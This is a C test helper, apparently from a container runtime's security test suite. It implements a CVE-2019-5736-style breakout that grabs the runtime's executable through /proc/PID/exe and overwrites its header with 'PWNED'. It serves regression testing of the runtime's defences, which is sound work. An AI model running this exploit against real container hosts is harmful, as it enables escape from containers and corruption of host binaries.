/* exe_attack: a hostile container process trying to overwrite the runtime's binary on the host
 * (CVE-2019-5736 class). Built static by tests/security/exe.bats and copied into the rootfs.
 *
 *   exe_attack scan SECONDS OUT [FIFO]  watch /proc for a process whose executable is neither
 *                                       this program nor busybox; open its exe with O_PATH; then
 *                                       (after opening FIFO for reading, which releases a runtime
 *                                       blocked on opening it for writing) reopen that handle for
 *                                       writing until it works or fails for good
 *   exe_attack pid PID SECONDS OUT      the same for one PID (the created init: /proc/1/exe)
 *
 * OUT gets one line: "WROTE" (the binary was written), "DENIED <errno name>" (a write open
 * failed for good), "NOEXE <errno name>" (no exe handle could be had) or "TIMEOUT". */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void report(const char *out, const char *what, int e)
{
	FILE *f = fopen(out, "w");
	if (!f)
		return;
	if (e)
		fprintf(f, "%s %s\n", what, strerrorname_np(e) ? strerrorname_np(e) : "?");
	else
		fprintf(f, "%s\n", what);
	fclose(f);
}

static int same_file(int fd, const char *path)
{
	struct stat a, b;
	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

/* An O_PATH handle on PID's executable, unless it is ours or busybox; -errno. */
static int grab(int pid)
{
	char p[64];
	int fd;

	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	if (same_file(fd, "/proc/self/exe") || same_file(fd, "/bin/busybox")) {
		close(fd);
		return -ESRCH;
	}
	return fd;
}

/* Reopen the handle for writing until ETXTBSY clears; then overwrite the ELF magic. */
static int overwrite(int fd, double deadline, const char *out)
{
	char p[64];
	int w;

	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	while (now() < deadline) {
		w = open(p, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			if (pwrite(w, "PWNED", 5, 0) == 5) {
				report(out, "WROTE", 0);
				return 0;
			}
			report(out, "DENIED", errno);
			return 1;
		}
		if (errno != ETXTBSY) {
			report(out, "DENIED", errno);
			return 1;
		}
		usleep(1000);
	}
	report(out, "TIMEOUT", 0);
	return 1;
}

static int scan(double deadline, const char *out, const char *fifo)
{
	int last = -EACCES;

	while (now() < deadline) {
		for (int pid = 2; pid < 64; pid++) {
			int fd = grab(pid);
			if (fd == -EACCES || fd == -EPERM)
				last = fd;
			if (fd < 0)
				continue;
			if (fifo && open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC) < 0)
				perror(fifo);
			return overwrite(fd, deadline, out);
		}
		usleep(500);
	}
	report(out, "NOEXE", -last);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && !strcmp(argv[1], "scan")) {
		setvbuf(stdout, NULL, _IONBF, 0);
		return scan(now() + atof(argv[2]), argv[3], argc > 4 ? argv[4] : NULL);
	}
	if (argc == 5 && !strcmp(argv[1], "pid")) {
		double deadline = now() + atof(argv[3]);
		int fd;
		while ((fd = grab(atoi(argv[2]))) < 0 && now() < deadline)
			usleep(1000);
		if (fd < 0) {
			report(argv[4], "NOEXE", -fd);
			return 1;
		}
		/* tell the test we hold it; it then starts the container */
		report(argv[4], "HOLDING", 0);
		return overwrite(fd, deadline, argv[4]);
	}
	fprintf(stderr, "usage: exe_attack scan SECONDS OUT [FIFO] | pid PID SECONDS OUT\n");
	return 2;
}
